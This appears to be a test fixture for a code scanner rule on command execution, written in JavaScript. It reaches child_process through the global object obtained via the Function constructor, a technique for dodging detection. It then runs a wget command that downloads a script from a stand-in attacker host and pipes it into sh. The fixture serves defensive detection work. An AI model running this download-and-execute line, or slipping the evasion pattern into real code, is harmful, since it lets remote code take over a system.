// The global object through the Function constructor, then process and require from it: nothing is named.
const g = Function('return this')();
// ruleid: code/command-execution
g.process.mainModule.require('child_process').exec('wget -q -O- https://stage.attacker.example/s | sh');
